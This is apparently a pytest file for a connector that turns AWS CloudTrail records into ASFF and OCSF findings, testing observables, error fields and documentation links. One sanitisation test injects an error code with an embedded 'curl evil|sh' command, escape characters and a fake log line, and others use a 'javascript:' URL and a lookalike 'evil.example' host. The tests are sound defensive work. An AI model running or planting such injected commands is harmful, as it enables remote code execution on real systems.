"""Values a SOC pivots on: OCSF ``observables`` and ``status_code``/``status_detail``, and the
documentation link of ``Remediation.Recommendation.Url`` in the event's partition."""

from __future__ import annotations

import copy
import re
from datetime import UTC, datetime
from typing import Any

import pytest

from connector.factory import FindingFactory
from connector.model import RenderedFinding
from connector.render.links import docs_url
from tests.support.records import ACCOUNT, EVENTS, RESOURCE_IDS, variants

RENDERED_AT = datetime(2026, 12, 1, 9, 0, 0, tzinfo=UTC)


@pytest.fixture(scope="module")
def factory() -> FindingFactory:
    return FindingFactory.load(clock=lambda: RENDERED_AT)


def render(factory: FindingFactory, record: dict[str, Any]) -> dict[str, RenderedFinding]:
    out = {r.format: r for r in factory.render(record, origin="test")}
    assert set(out) == {"asff", "ocsf"}
    return out


def values_at(document: Any, path: str) -> list[Any]:
    """Every value at a dotted OCSF attribute path, lists traversed."""
    nodes = [document]
    for part in path.split("."):
        nxt: list[Any] = []
        for node in nodes:
            items = node if isinstance(node, list) else [node]
            nxt.extend(item[part] for item in items if isinstance(item, dict) and part in item)
        nodes = nxt
    return [v for n in nodes for v in (n if isinstance(n, list) else [n])]


def observed(document: dict[str, Any], type_id: int) -> list[str]:
    return [o["value"] for o in document["observables"] if o["type_id"] == type_id]


@pytest.mark.parametrize("variant", ["success", "failed", "root", "assumed-role", "invoked-by-cloudformation",
                                     "sdk-no-source-ip", "identity-center", "aws-cn"])
@pytest.mark.parametrize("event", EVENTS)
def test_every_observable_repeats_the_attribute_it_names(factory: FindingFactory, event: str, variant: str) -> None:
    ocsf = render(factory, variants(event)[variant])["ocsf"].document
    assert ocsf["observables"], "a finding without observables"
    for obs in ocsf["observables"]:
        assert obs["value"] in values_at(ocsf, obs["name"]), obs
    assert len({(o["name"], o["value"]) for o in ocsf["observables"]}) == len(ocsf["observables"])


@pytest.mark.parametrize("event", EVENTS)
def test_observables_are_typed_for_pivoting(factory: FindingFactory, event: str) -> None:
    record = variants(event)["success"]
    ocsf = render(factory, record)["ocsf"].document
    assert observed(ocsf, 2) == [record["sourceIPAddress"]]  # IP Address
    assert observed(ocsf, 31) == [record["userIdentity"]["arn"]]  # User Object: uid = the ARN
    assert observed(ocsf, 19) == [record["userIdentity"]["accessKeyId"]]  # User Credential ID
    assert observed(ocsf, 35) == [ACCOUNT]  # Account Object: uid
    targets = observed(ocsf, 10)  # Resource UID: the resources' ARNs
    assert any(arn.startswith("arn:aws:ec2:") and arn.endswith(RESOURCE_IDS[event]) for arn in targets)
    types = {o["type_id"]: o["type"] for o in ocsf["observables"]}
    assert types[2] == "IP Address" and types[10] == "Resource UID" and types[31] == "User Object: uid"


def test_an_aws_service_caller_is_a_hostname_and_no_ip(factory: FindingFactory) -> None:
    ocsf = render(factory, variants(EVENTS[0])["invoked-by-cloudformation"])["ocsf"].document
    assert observed(ocsf, 1) == ["cloudformation.amazonaws.com"]
    assert observed(ocsf, 2) == []
    no_ip = render(factory, variants(EVENTS[0])["sdk-no-source-ip"])["ocsf"].document
    assert observed(no_ip, 2) == [] and observed(no_ip, 1) == []


@pytest.mark.parametrize("event", EVENTS)
def test_status_code_only_for_failed_and_dry_run_calls(factory: FindingFactory, event: str) -> None:
    calls = variants(event)
    success = render(factory, calls["success"])["ocsf"].document
    assert "status_code" not in success and "status_detail" not in success
    for variant in ("failed", "dry-run", "root-failed"):
        record = calls[variant]
        ocsf = render(factory, record)["ocsf"].document
        assert ocsf["status_code"] == record["errorCode"]
        assert ocsf["status_detail"].endswith(record["errorMessage"])
        assert ("nothing changed" if variant == "dry-run" else "nothing was deleted") in ocsf["status_detail"]


def test_a_hostile_error_code_and_message_are_not_passed_through(factory: FindingFactory) -> None:
    record = copy.deepcopy(variants(EVENTS[0])["failed"])
    record["errorCode"] = "Client.Unauthorized$(curl evil|sh)\nX"
    record["errorMessage"] = "denied\n\x1b[31mFAKE LOG LINE\r" + "A" * 5000
    ocsf = render(factory, record)["ocsf"].document
    assert "status_code" not in ocsf  # not an error name: not reported as one
    detail = ocsf["status_detail"]
    assert "malformed error code" in detail and "curl" not in detail
    assert not re.search(r"[\x00-\x1f\x7f]", detail)
    assert len(detail) < 700 and detail.endswith("…")


# -- documentation in the event's partition --------------------------------------------------

@pytest.mark.parametrize(("variant", "host"), [
    ("success", "https://docs.aws.amazon.com/"),
    ("aws-us-gov", "https://docs.aws.amazon.com/"),  # GovCloud is documented on the commercial site
    ("aws-cn", "https://docs.amazonaws.cn/en_us/"),
])
@pytest.mark.parametrize("event", EVENTS)
def test_recommendation_url_is_in_the_partitions_docs(factory: FindingFactory, event: str, variant: str, host: str) -> None:
    out = render(factory, variants(event)[variant])
    commercial = render(factory, variants(event)["success"])["asff"].document["Remediation"]["Recommendation"]["Url"]
    path = commercial.removeprefix("https://docs.aws.amazon.com/")
    assert path != commercial, "a mapping's url is expected on the commercial docs site"
    assert out["asff"].document["Remediation"]["Recommendation"]["Url"] == host + path
    ocsf = out["ocsf"].document["remediation"]
    assert ocsf["kb_article_list"][0]["src_url"] == host + path


def test_docs_url_moves_only_commercial_docs_links() -> None:
    url = "https://docs.aws.amazon.com/vpc/latest/userguide/nacl-rules.html"
    assert docs_url(url, "aws-cn") == "https://docs.amazonaws.cn/en_us/vpc/latest/userguide/nacl-rules.html"
    assert docs_url(url, "aws-us-gov") == url
    assert docs_url(url, "aws-iso") == url  # no public docs host: the commercial page
    assert docs_url("https://attack.mitre.org/techniques/T1562/", "aws-cn") == "https://attack.mitre.org/techniques/T1562/"
    assert docs_url("https://docs.aws.amazon.com.evil.example/x", "aws-cn") == "https://docs.aws.amazon.com.evil.example/x"


# -- optional: Recommendation.Url opens the finding in the SOC's Dashboards -------------------

def test_dashboards_link_is_off_by_default() -> None:
    from connector.build import dashboards_link
    from connector.config import Settings

    assert Settings().securityhub.recommendation_dashboards_url == ""
    assert dashboards_link(Settings()) is None


@pytest.mark.parametrize("prefix", ["cloudtrail-findings", "soc-findings"])
def test_dashboards_link_opens_the_findings_ocsf_document(prefix: str) -> None:
    from urllib.parse import unquote

    from connector.render.links import DashboardsLink
    from connector.sinks.opensearch.setup import saved_objects
    from connector.sinks.opensearch.sink import index_name

    link = DashboardsLink.from_setting("https://soc.example.com/_dashboards/", prefix)
    factory = FindingFactory.load(clock=lambda: RENDERED_AT, dashboards_link=link)
    out = render(factory, variants(EVENTS[0])["success"])
    asff = out["asff"].document
    url = asff["Remediation"]["Recommendation"]["Url"]
    head, _, finding_id = url.partition("?id=")
    pattern_id, index = head.removeprefix("https://soc.example.com/_dashboards/app/discover#/doc/").split("/")
    assert unquote(finding_id) == out["ocsf"].finding_id and "/" not in finding_id and ":" not in finding_id
    assert index == index_name(prefix, out["ocsf"])  # where the OpenSearch sink writes the document
    # the index pattern `connector setup` imports into Dashboards for this prefix
    assert any(o["type"] == "index-pattern" and o["id"] == pattern_id for o in saved_objects(prefix))
    assert asff["ProductFields"]["connector/documentation"].startswith("https://docs.aws.amazon.com/")


@pytest.mark.parametrize("bad", [
    "http://soc.example.com", "javascript:alert(1)", "https://user:pw@soc.example.com",
    "https://soc.example.com/?q=1", "https://soc.example.com/#x", "https://soc example.com",
    "https:///nohost", "https://soc.example.com:99999", "https://soc.example.com/a'b",
])
def test_a_bad_dashboards_url_is_refused_at_start(bad: str) -> None:
    import dataclasses

    from connector.build import dashboards_link
    from connector.config import SecurityHubSettings, Settings
    from connector.errors import ConfigError

    settings = dataclasses.replace(Settings(), securityhub=SecurityHubSettings(recommendation_dashboards_url=bad))
    with pytest.raises(ConfigError, match="recommendation_dashboards_url"):
        dashboards_link(settings)


#: Addresses and near misses of every kind ``ipaddress`` distinguishes.
_ADDRESSES = ["1.2.3.4", "0.0.0.0", "255.255.255.255", "256.1.1.1", "01.2.3.4", "1.2.3.04", "1.2.3", "1.2.3.4.5",
              "1.2.3.4 ", " 1.2.3.4", "1.2.3.4\n", "1..3.4", "١.٢.٣.٤", "１.2.3.4", "1.2.3.4/32", "1.2.3.4%eth0",
              "+1.2.3.4", "1.2.3.-4", "000.1.1.1", "199.249.250.251", "::", "::1", "2001:db8::1", "::ffff:1.2.3.4",
              "fe80::1%eth0", "2001:db8::1/64", "1:2:3:4:5:6:7:8", "1:2:3:4:5:6:7:8:9", ":", "a:b", "",
              "cloudformation.amazonaws.com", "AWS Internal", "0x1.2.3.4"]


def test_ip_version_agrees_with_ipaddress() -> None:
    import ipaddress
    import random

    from connector.render.asff import ip_version

    rng = random.Random(3)
    quads = [".".join(rng.choice(["0", "1", "9", "10", "99", "100", "199", "200", "249", "250", "255", "256", "300",
                                  "00", "01", "010", "1000", ""]) for _ in range(4)) for _ in range(3000)]
    for text in _ADDRESSES + quads:
        try:
            expected = ipaddress.ip_address(text).version
        except ValueError:
            expected = 0
        assert ip_version(text) == expected, text


def test_event_times_are_written_as_strftime_writes_them() -> None:
    from connector.model import utc_millis, utc_seconds

    for year in (1, 9, 99, 999, 1000, 2026, 9999):
        when = datetime(year, 2, 3, 4, 5, 6, 789012, tzinfo=UTC)
        assert utc_seconds(when) == when.strftime("%Y-%m-%dT%H:%M:%SZ")
        assert utc_millis(when) == when.strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z"
